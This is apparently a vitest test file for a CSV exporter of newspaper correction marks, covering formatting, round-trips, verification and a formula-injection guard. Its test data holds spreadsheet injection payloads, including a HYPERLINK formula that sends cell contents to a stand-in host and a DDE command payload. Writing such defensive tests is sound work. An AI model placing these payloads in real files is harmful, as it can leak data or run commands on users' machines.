import fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import type { CorrectedEdition } from '#domain/edition/corrected-edition';
import { correctedEdition, editionSeed } from '#testing/corrected-editions';
import { parseCsv, writeCsv } from './csv';
import { looksLikeFormula } from './csv-guard';
import { MARK_COLUMNS, markRows, parseMarksCsv, writeMarksCsv, type MarkRow } from './marks-csv';
import { writeVerifiedMarksCsv } from './write-marks-csv';

/** Cells a spreadsheet might run, or might after it has dropped what stands before. (S-05) */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://x.example/?"&A1,"看")',
  "=cmd|' /C calc'!A0",
  '+1',
  '+HYPERLINK("x")',
  '-2+3',
  '-',
  '@SUM(1,2)',
  '@',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1',
  '﹢1',
  '﹣1',
  '﹫SUM(1)',
  '−1',
  '\t=1',
  '\t甲',
  '\r=1',
  '\r甲',
  '\0=1',
  '\0甲',
  '\n=1',
  '\n\n@SUM(1)',
  '\r\n=1',
  '\n\t甲',
  ' =1',
  '\u3000=1',
  '\u00a0@x',
  '\ufeff=1',
  '\u200b=1',
  '\u2060\u200d+1',
  '\u202e-1',
  '"=1',
  "'=1",
  '“=1',
  '「＝1',
  '\u001b=1',
];

/** Cells that are only text. */
const TEXTS = [
  '',
  '焦作日报',
  '——本报记者',
  '1月7日',
  "'90年代",
  '"引',
  '\n甲',
  'a=1',
  '第1-2版',
  '…@',
  '《=》',
  '0',
];

const NOBODY = Object.fromEntries(MARK_COLUMNS.slice(0, -1).map((column) => [column, ''])) as MarkRow;
const codeWord = (code: string): string => `「${code}」`;

function roundTrip(rows: readonly MarkRow[]): readonly MarkRow[] {
  const read = parseMarksCsv(writeMarksCsv(rows));
  if (!read.ok) throw new Error(JSON.stringify(read.error));
  return read.value;
}

const cellsIn = (text: string): readonly (readonly string[])[] => {
  const read = parseCsv(text);
  if (!read.ok) throw new Error(JSON.stringify(read.error));
  return read.value;
};

describe('a cell that a spreadsheet might take for a formula', () => {
  test('there are forty of them here', () => {
    expect(new Set(FORMULAS).size).toBe(40);
  });

  test.each(FORMULAS.map((cell) => [cell]))(
    '%j gets an apostrophe in front, and comes back without it',
    (cell) => {
      const row = { ...NOBODY, before: cell, note: cell, after: '甲' };
      const [, cells = []] = cellsIn(writeMarksCsv([row]));
      expect(cells[MARK_COLUMNS.indexOf('before')]).toBe(`'${cell}`);
      expect(cells[MARK_COLUMNS.indexOf('after')]).toBe('甲');
      expect(cells.at(-1)).toBe('before note');
      expect(roundTrip([row])).toEqual([row]);
    },
  );

  test.each(TEXTS.map((cell) => [cell]))('%j is left as it is', (cell) => {
    expect(looksLikeFormula(cell)).toBe(false);
    const row = { ...NOBODY, before: cell };
    expect(cellsIn(writeMarksCsv([row]))[1]?.at(-1)).toBe('');
    expect(roundTrip([row])).toEqual([row]);
  });
});

describe('the table of marks', () => {
  const edition = (): Promise<CorrectedEdition> =>
    correctedEdition({
      text: '😀温县\n=召开"2023"第1次会议，第2次',
      starts: [],
      marks: [
        { start: 2, end: 4 },
        { start: 5, end: 8 },
        { start: 9, end: 10 },
        { start: 13, end: 13 },
      ],
      note: '+备注',
    });

  it('is by RFC 4180: a header, CRLF, everything quoted, a byte order mark in front', async () => {
    const text = writeMarksCsv(markRows(await edition(), codeWord));
    expect(text.startsWith('\ufeff"edition","date",')).toBe(true);
    expect(text.endsWith('"\r\n')).toBe(true);
    expect(text.replaceAll('\r\n', '')).not.toContain('\r');
    expect(text).toContain('"\'=召开"');
    expect(text).toContain('"\'+备注"');
  });

  it('says where each mark stands, in code points and lines, and what it says', async () => {
    const rows = markRows(await edition(), codeWord);
    expect(rows.map(({ line, start, end, before, action }) => [line, start, end, before, action])).toEqual([
      ['1', '1', '3', '温县', 'replace'],
      ['2', '4', '7', '=召开', 'replace'],
      ['2', '12', '12', '', 'none'],
    ]);
    expect(rows[0]).toMatchObject({
      edition: '焦作日报',
      date: '2023-01-10',
      raw_page: '__proto__.txt',
      article_number: '1',
      headline: '+备注',
      code: 'SUB',
      code_in_words: '「SUB」',
      origin: 'extraction',
      status: 'accepted',
      after: '改0',
      found_by: 'person',
    });
  });

  it('keeps answers, passes, and readings of nothing apart from none', async () => {
    const whole = await edition();
    const [mark] = whole.corrections;
    if (mark === undefined) throw new Error('There is no mark');
    const replies = [
      { by: '甲', at: '2023-01-10T09:00:00Z', text: '是' },
      { by: '', at: '2023-01-10T10:00:00Z', text: '否' },
    ];
    const corrections = [{ ...mark, replacement: '', pass: 'second' as const, replies }];
    expect(markRows({ ...whole, corrections }, codeWord)).toMatchObject([
      {
        action: 'delete',
        after: '',
        pass: 'second',
        replies: '甲 2023-01-10T09:00:00Z: 是\n2023-01-10T10:00:00Z: 否',
      },
    ]);
  });

  it('reads back as it was written, whatever stands in it', () => {
    const cell = fc.oneof(
      fc.constantFrom(...FORMULAS, ...TEXTS, "'", '",\r\n"', '\ufeff'),
      fc.string({ unit: 'binary' }),
    );
    const row = fc
      .array(cell, { minLength: MARK_COLUMNS.length - 1, maxLength: MARK_COLUMNS.length - 1 })
      .map((cells) => Object.fromEntries(cells.map((each, i) => [MARK_COLUMNS[i], each])) as MarkRow);
    fc.assert(
      fc.property(fc.array(row, { maxLength: 4 }), (rows) => {
        expect(roundTrip(rows)).toEqual(rows);
        const cells = cellsIn(writeMarksCsv(rows)).slice(1).flat();
        expect(cells.filter((each) => /^[=+\-@＝＋－＠\t\r\0]/u.test(each))).toEqual([]);
      }),
      { seed: 20230110, numRuns: 60 },
    );
  });

  it('is verified for any edition, notes with lone surrogates included', async () => {
    await fc.assert(
      fc.asyncProperty(editionSeed, async (seed) => {
        const written = await writeVerifiedMarksCsv(await correctedEdition(seed), codeWord);
        expect(written.ok).toBe(true);
        if (written.ok) expect([...written.value.bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      }),
      { seed: 20230110, numRuns: 60 },
    );
  });

  it('is not handed out when a mark does not quote its place, or bytes are not those that were hashed', async () => {
    const whole = await edition();
    const corrections = whole.corrections.map((mark) => ({ ...mark, original: '别的' }));
    expect(await writeVerifiedMarksCsv({ ...whole, corrections }, codeWord)).toMatchObject({
      ok: false,
      error: { code: 'slice', path: 'row 2' },
    });
    const rawPages = whole.rawPages.map((page) => ({ ...page, bytes: new Uint8Array() }));
    expect(await writeVerifiedMarksCsv({ ...whole, rawPages }, codeWord)).toMatchObject({
      ok: false,
      error: { code: 'bytes' },
    });
  });

  it.each([
    ['cut off', '\ufeff"a","b'],
    ['not quoted', 'a,b\r\n'],
    ['without its last line end', '"a"'],
    ['with bare line feeds', '"a"\n"b"\n'],
  ])('is refused when it is %s', (_, text) => {
    expect(parseMarksCsv(text)).toMatchObject({ ok: false, error: { code: 'not-csv' } });
  });

  it('is refused with other columns', () => {
    expect(parseMarksCsv(writeCsv([['a']]))).toEqual({ ok: false, error: { code: 'other-columns', at: 0 } });
    expect(parseMarksCsv(writeCsv([MARK_COLUMNS, ['1']]))).toEqual({
      ok: false,
      error: { code: 'other-columns', at: 1 },
    });
  });
});
